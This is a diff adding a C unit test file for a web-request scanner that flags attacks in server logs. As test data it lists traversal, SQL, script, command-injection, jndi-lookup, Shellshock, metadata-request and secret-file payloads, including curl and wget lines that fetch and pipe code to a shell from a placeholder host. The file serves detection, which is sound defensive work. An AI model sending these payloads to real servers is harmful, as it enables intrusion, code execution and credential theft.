@@ -1,0 +1,406 @@
+/* SPDX-License-Identifier: Apache-2.0 */
+/*
+ * What this proves: each kind of request is recognised by what it holds, however it is encoded;
+ * ordinary requests that look like one are not; and every rule is in the manual.
+ * Oracle: requests written by hand from the advisories the rules name, and ordinary addresses that
+ * hold the same words.
+ */
+#include <setjmp.h>
+#include <stdarg.h>
+#include <stddef.h>
+#include <stdio.h>
+#include <stdlib.h>
+
+#include <cmocka.h>
+
+#include "base/str.h"
+#include "trace/http_request.h"
+#include "trace/web.h"
+#include "trace/web_literals.h"
+#include "trace/web_rules.h"
+
+static struct onus_web_scanner *scanner;
+
+static int set_up(void **state)
+{
+    (void)state;
+    scanner = onus_web_scanner_new(NULL);
+    return scanner ? 0 : -1;
+}
+
+static int tear_down(void **state)
+{
+    (void)state;
+    onus_web_scanner_free(scanner);
+    return 0;
+}
+
+static struct onus_event inspect(const char *request, unsigned status, const char *agent)
+{
+    struct onus_event event = {.kind = ONUS_EVENT_WEB, .status = (uint16_t)status, .bytes = 1};
+    onus_http_request(onus_str_of(request), &event);
+    event.agent = onus_str_of(agent);
+    onus_web_inspect(scanner, &event);
+    return event;
+}
+
+static bool finds(enum onus_finding finding, const char *request, unsigned status)
+{
+    struct onus_event event = inspect(request, status, "");
+    bool found = (event.findings & ONUS_FINDING_BIT(finding)) != 0;
+    if (!found) {
+        (void)fprintf(stderr, "not found (%s): %s\n", onus_finding_name(finding), request);
+    }
+    return found;
+}
+
+/* Nothing at all, not even a probe. */
+static bool is_ordinary(const char *target, unsigned status)
+{
+    char request[512];
+    (void)snprintf(request, sizeof(request), "GET %s HTTP/1.1", target);
+    struct onus_event event = inspect(request, status, "");
+    if (event.findings != 0) {
+        (void)fprintf(stderr, "%s: %s\n", event.rule, target);
+    }
+    return event.findings == 0;
+}
+
+static void attacks_are_found_in_every_encoding(void **state)
+{
+    (void)state;
+    static const struct {
+        enum onus_finding finding;
+        const char *target;
+    } rows[] = {
+            {ONUS_FINDING_TRAVERSAL, "/a/../../../etc/passwd"},
+            {ONUS_FINDING_TRAVERSAL, "/a/..%2f..%2f..%2fetc%2fpasswd"},
+            {ONUS_FINDING_TRAVERSAL, "/cgi-bin/.%2e/.%2e/bin/sh"},
+            {ONUS_FINDING_TRAVERSAL, "/cgi-bin/%%32%65%%32%65/%%32%65%%32%65/x"},
+            {ONUS_FINDING_TRAVERSAL, "/u/%252e%252e/x.php"},
+            {ONUS_FINDING_TRAVERSAL, "/scripts/..%c0%af../winnt/system32/x"},
+            {ONUS_FINDING_TRAVERSAL, "/scripts/..%255c..%255cwinnt/x"},
+            {ONUS_FINDING_TRAVERSAL, "/a/..%u2215..%uff0f..%uff0fetc%uff0fpasswd"},
+            {ONUS_FINDING_TRAVERSAL, "/app/..;/manager/x"},
+            {ONUS_FINDING_TRAVERSAL, "/x?file=/ETC/Passwd"},
+            {ONUS_FINDING_SQL_INJECTION, "/p?id=1%20UNION%20ALL%20SELECT%201,2"},
+            {ONUS_FINDING_SQL_INJECTION, "/p?id=1/**/uNiOn/**/sElEcT/**/1"},
+            {ONUS_FINDING_SQL_INJECTION, "/p?id=1'+OR+'1'='1"},
+            {ONUS_FINDING_SQL_INJECTION, "/p?id=1%27%20and%20sleep(5)--"},
+            {ONUS_FINDING_SQL_INJECTION, "/p?id=1+and+1=1"},
+            {ONUS_FINDING_SQL_INJECTION, "/p?id=1;waitfor+delay+'0:0:5'"},
+            {ONUS_FINDING_SQL_INJECTION, "/p?id=(select+password+from+users)"},
+            {ONUS_FINDING_SCRIPT_INJECTION, "/s?q=<script>x</script>"},
+            {ONUS_FINDING_SCRIPT_INJECTION, "/s?q=%253Cscript%253E"},
+            {ONUS_FINDING_SCRIPT_INJECTION, "/s?q=%22%3E%3Cimg%20src=x%20onerror=a%3E"},
+            {ONUS_FINDING_SCRIPT_INJECTION, "/s?q=javascript:alert(1)"},
+            {ONUS_FINDING_COMMAND_INJECTION, "/x?a=1;wget+http://192.0.2.1/a"},
+            {ONUS_FINDING_COMMAND_INJECTION, "/x?a=$(curl%20http://192.0.2.1/a|sh)"},
+            {ONUS_FINDING_COMMAND_INJECTION, "/x?a=1|id"},
+            {ONUS_FINDING_COMMAND_INJECTION, "/a${IFS}b"},
+            {ONUS_FINDING_TEMPLATE_LOOKUP, "/?x=${jndi:ldap://192.0.2.1/a}"},
+            {ONUS_FINDING_TEMPLATE_LOOKUP, "/?x=$%7B$%7Blower:j%7Dndi:x%7D"},
+            {ONUS_FINDING_TEMPLATE_LOOKUP, "/?x={{7*7}}"},
+            {ONUS_FINDING_FILE_INCLUSION, "/?p=php://filter/resource=x"},
+            {ONUS_FINDING_FILE_INCLUSION, "/a.php?dir=http://192.0.2.1/c.txt??"},
+            {ONUS_FINDING_FILE_INCLUSION, "/a.php?f=x%00.jpg"},
+            {ONUS_FINDING_WEB_SHELL, "/up/my_Shell.php"},
+            {ONUS_FINDING_WEB_SHELL, "/c99.php"},
+            {ONUS_FINDING_KNOWN_EXPLOIT, "/vendor/phpunit/src/Util/PHP/eval-stdin.php"},
+            {ONUS_FINDING_KNOWN_EXPLOIT, "/s/x/_/;/WEB-INF/web.xml"},
+            {ONUS_FINDING_KNOWN_EXPLOIT, "/html/usr/share/help.html%3f"},
+            {ONUS_FINDING_KNOWN_EXPLOIT, "/shell?cd+/tmp;rm+x"},
+            {ONUS_FINDING_OVERFLOW, "/default.ida?NNNN"},
+            {ONUS_FINDING_REQUEST_FORGERY, "/?u=http://169.254.169.254/latest/"},
+            {ONUS_FINDING_SECRET_FILE, "/api/.env"},
+            {ONUS_FINDING_SECRET_FILE, "/.git/config"},
+            {ONUS_FINDING_SECRET_FILE, "/wp-config.php~"},
+            {ONUS_FINDING_SECRET_FILE, "/.listing"},
+            {ONUS_FINDING_ADMIN_PANEL, "//phpMyAdmin-2.8/index.php"},
+            {ONUS_FINDING_ADMIN_PANEL, "/+CSCOE+/logon.html"},
+            {ONUS_FINDING_CMS_PROBE, "/blog/wp-admin/"},
+            {ONUS_FINDING_DEVICE_PROBE, "/boaform/admin/formLogin"},
+            {ONUS_FINDING_TECHNOLOGY_PROBE, "/w00tw00t.at.x"},
+    };
+    for (size_t i = 0; i < ONUS_COUNT(rows); i++) {
+        char request[512];
+        (void)snprintf(request, sizeof(request), "GET %s HTTP/1.1", rows[i].target);
+        assert_true(finds(rows[i].finding, request, 404));
+    }
+}
+
+static void ordinary_requests_hold_the_same_words(void **state)
+{
+    (void)state;
+    static const char *const targets[] = {
+            "/",
+            "/news/union-selects-new-leader.html",
+            "/search?q=european+union+selection",
+            "/search?q=trade+union+select+committee",
+            "/search?q=select+a+gift+from+our+shop",
+            "/search?q=to+be+or+not+to+be",
+            "/search?q=tom+and+jerry&page=1",
+            "/search?q=o'reilly+and+sons",
+            "/search?q=it's+now+or+never",
+            "/search?q=how+to+use+wget+and+curl",
+            "/search?q=rm+-rf+explained",
+            "/search?q=100%25+cotton",
+            "/search?q=caf%C3%A9+%26+bar",
+            "/search?q=C%2B%2B+template+%7B%7Bname%7D%7D",
+            "/login?next=https://www.example.org/account",
+            "/redirect?url=https%3A%2F%2Fwww.example.org%2F",
+            "/blog/tags/shell?page=3",
+            "/products/shell-chair.html",
+            "/a/../b.css",
+            "/.well-known/acme-challenge/x",
+            "/.well-known/security.txt",
+            "/environment/.environment-guide",
+            "/js/javascript.js",
+            "/static/js/scripts.min.js?v=1.2.3",
+            "/wp-content/plugins/gallery/style.css",
+            "/wp-includes/js/jquery.js",
+            "/forum/alert-system(new).html",
+            "/sleep(zz)",
+            "/docs/etc/password-policy.html",
+            "/account/login",
+            "/admin/",
+            "/images/xxxx.png",
+            "*",
+    };
+    for (size_t i = 0; i < ONUS_COUNT(targets); i++) {
+        assert_true(is_ordinary(targets[i], 200));
+    }
+}
+
+static void the_method_and_the_form_say_something(void **state)
+{
+    (void)state;
+    assert_true(finds(ONUS_FINDING_PROXY_ABUSE, "CONNECT www.example.org:443 HTTP/1.1", 400));
+    assert_true(finds(ONUS_FINDING_PROXY_ABUSE, "GET http://www.example.org/ HTTP/1.1", 404));
+    assert_true(finds(ONUS_FINDING_METHOD_PROBE, "PROPFIND / HTTP/1.1", 405));
+    assert_true(finds(ONUS_FINDING_METHOD_PROBE, "TRACE / HTTP/1.1", 200));
+    assert_true(finds(ONUS_FINDING_METHOD_PROBE, "FOO / HTTP/1.1", 501));
+    assert_int_equal(inspect("PROPFIND /dav/ HTTP/1.1", 207, "").findings, 0);
+    assert_int_equal(inspect("OPTIONS * HTTP/1.0", 200, "").findings, 0);
+    assert_true(finds(ONUS_FINDING_BINARY_REQUEST, "\x16\x03\x01", 400));
+    assert_true(finds(ONUS_FINDING_BINARY_REQUEST, "SSH-2.0-Go", 400));
+    assert_true(finds(ONUS_FINDING_BAD_PROTOCOL, "HELP", 400));
+    assert_true(finds(ONUS_FINDING_BAD_PROTOCOL, "", 400));
+    assert_int_equal(inspect("-", 408, "").findings, 0);
+    assert_true(finds(ONUS_FINDING_BAD_PROTOCOL, "GET / HTTP/2.1", 400));
+    assert_int_equal(inspect("GET / HTTP/0.9", 200, "").findings, 0);
+}
+
+static void an_own_absolute_address_is_no_proxy_request(void **state)
+{
+    (void)state;
+    struct onus_event event = {.kind = ONUS_EVENT_WEB, .status = 200};
+    event.host = ONUS_STR("www.example.org:443");
+    onus_http_request(ONUS_STR("GET http://www.example.org/ HTTP/1.1"), &event);
+    onus_web_inspect(scanner, &event);
+    assert_int_equal(event.findings, 0);
+}
+
+static void logins_are_posts_and_refusals(void **state)
+{
+    (void)state;
+    const onus_findings post = ONUS_FINDING_BIT(ONUS_FINDING_LOGIN_POST);
+    const onus_findings refused = ONUS_FINDING_BIT(ONUS_FINDING_LOGIN_REFUSED);
+    assert_true(inspect("POST /wp-login.php HTTP/1.1", 200, "").findings == post);
+    assert_true(inspect("POST /wp-login.php HTTP/1.1", 403, "").findings == (post | refused));
+    assert_true(inspect("POST /account/login HTTP/1.1", 302, "").findings == post);
+    assert_true(inspect("GET /private/ HTTP/1.1", 401, "").findings == refused);
+    assert_true(inspect("POST /login/help.html HTTP/1.1", 200, "").findings == 0);
+}
+
+static void clients_are_what_they_call_themselves(void **state)
+{
+    (void)state;
+    static const struct {
+        enum onus_finding finding;
+        const char *agent;
+    } rows[] = {
+            {ONUS_FINDING_SCANNER_AGENT, "sqlmap/1.7 (https://sqlmap.org)"},
+            {ONUS_FINDING_SCANNER_AGENT, "Mozilla/5.0 zgrab/0.x"},
+            {ONUS_FINDING_RESEARCH_SCANNER, "Mozilla/5.0 (compatible; CensysInspect/1.1)"},
+            {ONUS_FINDING_CRAWLER, "Mozilla/5.0 (compatible; Googlebot/2.1)"},
+            {ONUS_FINDING_TEMPLATE_LOOKUP, "${jndi:ldap://192.0.2.1/a}"},
+            {ONUS_FINDING_COMMAND_INJECTION, "() { :; }; /bin/bash -c x"},
+    };
+    for (size_t round = 0; round < 2; round++) { /* the second is answered from memory */
+        for (size_t i = 0; i < ONUS_COUNT(rows); i++) {
+            struct onus_event event = inspect("GET / HTTP/1.1", 200, rows[i].agent);
+            assert_true(event.findings == ONUS_FINDING_BIT(rows[i].finding));
+            assert_non_null(event.rule);
+        }
+        assert_int_equal(inspect("GET / HTTP/1.1", 200, "Mozilla/5.0 (X11) Chrome/120").findings,
+                0);
+    }
+}
+
+static void a_referer_counts_only_as_a_carrier(void **state)
+{
+    (void)state;
+    struct onus_event event = {.kind = ONUS_EVENT_WEB, .status = 200};
+    onus_http_request(ONUS_STR("GET / HTTP/1.1"), &event);
+    event.detail = ONUS_STR("https://search.example/?q=<script>+union+select+../../etc/passwd{}");
+    onus_web_inspect(scanner, &event);
+    assert_int_equal(event.findings, 0);
+    event.detail = ONUS_STR("https://x.example/${jndi:ldap://192.0.2.1/a}");
+    onus_web_inspect(scanner, &event);
+    assert_true(event.findings == ONUS_FINDING_BIT(ONUS_FINDING_TEMPLATE_LOOKUP));
+}
+
+static void static_files_are_marked(void **state)
+{
+    (void)state;
+    assert_true(inspect("GET /a/b.PNG?v=1 HTTP/1.1", 200, "").marks & ONUS_MARK_STATIC);
+    assert_true(inspect("GET /a/b.woff2 HTTP/1.1", 200, "").marks & ONUS_MARK_STATIC);
+    assert_false(inspect("GET /a/b.php HTTP/1.1", 200, "").marks & ONUS_MARK_STATIC);
+    assert_false(inspect("GET /a?f=b.png HTTP/1.1", 200, "").marks & ONUS_MARK_STATIC);
+}
+
+static void the_gravest_rule_is_named(void **state)
+{
+    (void)state;
+    struct onus_event event = inspect("GET /.env?x=../../../etc/passwd HTTP/1.1", 404, "sqlmap");
+    assert_string_equal(event.rule, "path traversal");
+}
+
+static void no_scanner_finds_nothing(void **state)
+{
+    (void)state;
+    struct onus_event event = {.kind = ONUS_EVENT_WEB, .target = ONUS_STR("/../../etc/passwd")};
+    onus_web_inspect(NULL, &event);
+    assert_int_equal(event.findings, 0);
+}
+
+static void decoding_is_as_written(void **state)
+{
+    (void)state;
+    static char buffer[ONUS_WEB_TEXT_MAX];
+    struct onus_web_text text;
+    onus_web_decode(ONUS_STR("/A%2fb+c?D=e+f%2B%"), buffer, &text);
+    assert_true(onus_str_eq((struct onus_str){text.ptr, text.len}, ONUS_STR("/a/b+c?d=e f+%")));
+    assert_int_equal(text.query, 7);
+    assert_int_equal(text.marks, 0);
+    onus_web_decode(ONUS_STR("/%25252525x"), buffer, &text);
+    assert_true(onus_str_eq((struct onus_str){text.ptr, text.len}, ONUS_STR("/%25x")));
+    assert_int_equal(text.marks, ONUS_WEB_ENCODED_TWICE);
+    onus_web_decode(ONUS_STR("/%c0%ae%C0%AE%e0%80%af"), buffer, &text);
+    assert_true(onus_str_eq((struct onus_str){text.ptr, text.len}, ONUS_STR("/../")));
+    assert_int_equal(text.marks, ONUS_WEB_OVERLONG);
+    onus_web_decode(ONUS_STR("%"), buffer, &text);
+    assert_int_equal(text.len, 1);
+    onus_web_decode(ONUS_STR_NONE, buffer, &text);
+    assert_int_equal(text.len, 0);
+}
+
+static void remember(size_t row, size_t from, size_t to, void *data)
+{
+    (void)to;
+    if (from == 3) {
+        ((bool *)data)[row] = true;
+    }
+}
+
+/* The fast path looks for four bytes of each literal; the slow one is to look for all of it. */
+static void every_literal_is_found_where_it_stands(void **state)
+{
+    (void)state;
+    const unsigned fields[] = {ONUS_WEB_PATH | ONUS_WEB_QUERY | ONUS_WEB_TARGET, ONUS_WEB_AGENT};
+    struct hs_scratch *scratch = NULL;
+    const struct onus_web_rule *rule = NULL;
+    for (size_t f = 0; f < ONUS_COUNT(fields); f++) {
+        struct onus_web_literals *set = NULL;
+        assert_int_equal(onus_web_literals_new(fields[f], &set, NULL), ONUS_OK);
+        assert_int_equal(onus_web_literals_scratch(set, &scratch, NULL), ONUS_OK);
+        for (size_t row = 0; (rule = onus_web_rule_at(row)); row++) {
+            static bool seen[4096];
+            char text[256];
+            int len = snprintf(text, sizeof(text), "///%s", rule->literal);
+            memset(seen, 0, sizeof(seen));
+            onus_web_literals_scan(set, scratch, (struct onus_str){text, (size_t)len}, remember,
+                    seen);
+            assert_true(seen[row] == ((rule->where & fields[f]) != 0));
+        }
+        onus_web_literals_free(set);
+    }
+    onus_web_scratch_free(scratch);
+}
+
+/* One row of the manual. */
+static void format_row(const struct onus_web_rule *rule, char *out, size_t size)
+{
+    static const char *const fields[] = {"path", "query", "target", "agent", "method", "request"};
+    char literal[160];
+    size_t len = 0;
+    for (const char *p = rule->literal; *p && len + 8 < sizeof(literal); p++) {
+        if (*p == '|' || (unsigned char)*p >= 0x7f) {
+            len += (size_t)snprintf(literal + len, sizeof(literal) - len, "\\x%02x",
+                    (unsigned)(unsigned char)*p);
+        } else {
+            literal[len++] = *p;
+        }
+    }
+    literal[len] = '\0';
+    size_t field = 0;
+    while (!(rule->where & (1u << field))) {
+        field++;
+    }
+    (void)snprintf(out, size, "| %s%s%s | %s%s%s | %s | %s |\n", len > 0 ? "`` " : "", literal,
+            len > 0 ? " ``" : "", fields[field], rule->where & ONUS_WEB_POST ? ", POST" : "",
+            rule->where & ONUS_WEB_ABSENT ? ", refused" : "", onus_finding_name(rule->finding),
+            rule->reason);
+}
+
+static void every_rule_is_in_the_manual(void **state)
+{
+    (void)state;
+    static char manual[1 << 18];
+    char path[512];
+    const char *root = getenv("SOURCE_ROOT");
+    (void)snprintf(path, sizeof(path), "%s/docs/web-rules.md", root ? root : ".");
+    FILE *f = fopen(path, "rbe");
+    assert_non_null(f);
+    manual[fread(manual, 1, sizeof(manual) - 1, f)] = '\0';
+    (void)fclose(f);
+
+    size_t missing = 0;
+    size_t row = 0;
+    const struct onus_web_rule *rule = NULL;
+    for (; (rule = onus_web_rule_at(row)); row++) {
+        char text[512];
+        format_row(rule, text, sizeof(text));
+        if (!strstr(manual, text)) {
+            (void)fprintf(stderr, "%s", text); /* what to add to the manual */
+            missing++;
+        }
+    }
+    assert_int_equal(missing, 0);
+    size_t rows = 0;
+    for (const char *p = manual; (p = strstr(p, "\n| ")); p++) {
+        rows++;
+    }
+    assert_int_equal(rows, row + 1); /* and the heading of the table */
+}
+
+int main(void)
+{
+    const struct CMUnitTest tests[] = {
+            cmocka_unit_test(attacks_are_found_in_every_encoding),
+            cmocka_unit_test(ordinary_requests_hold_the_same_words),
+            cmocka_unit_test(the_method_and_the_form_say_something),
+            cmocka_unit_test(an_own_absolute_address_is_no_proxy_request),
+            cmocka_unit_test(logins_are_posts_and_refusals),
+            cmocka_unit_test(clients_are_what_they_call_themselves),
+            cmocka_unit_test(a_referer_counts_only_as_a_carrier),
+            cmocka_unit_test(static_files_are_marked),
+            cmocka_unit_test(the_gravest_rule_is_named),
+            cmocka_unit_test(no_scanner_finds_nothing),
+            cmocka_unit_test(decoding_is_as_written),
+            cmocka_unit_test(every_literal_is_found_where_it_stands),
+            cmocka_unit_test(every_rule_is_in_the_manual),
+    };
+    return cmocka_run_group_tests_name("trace/web", tests, set_up, tear_down);
+}
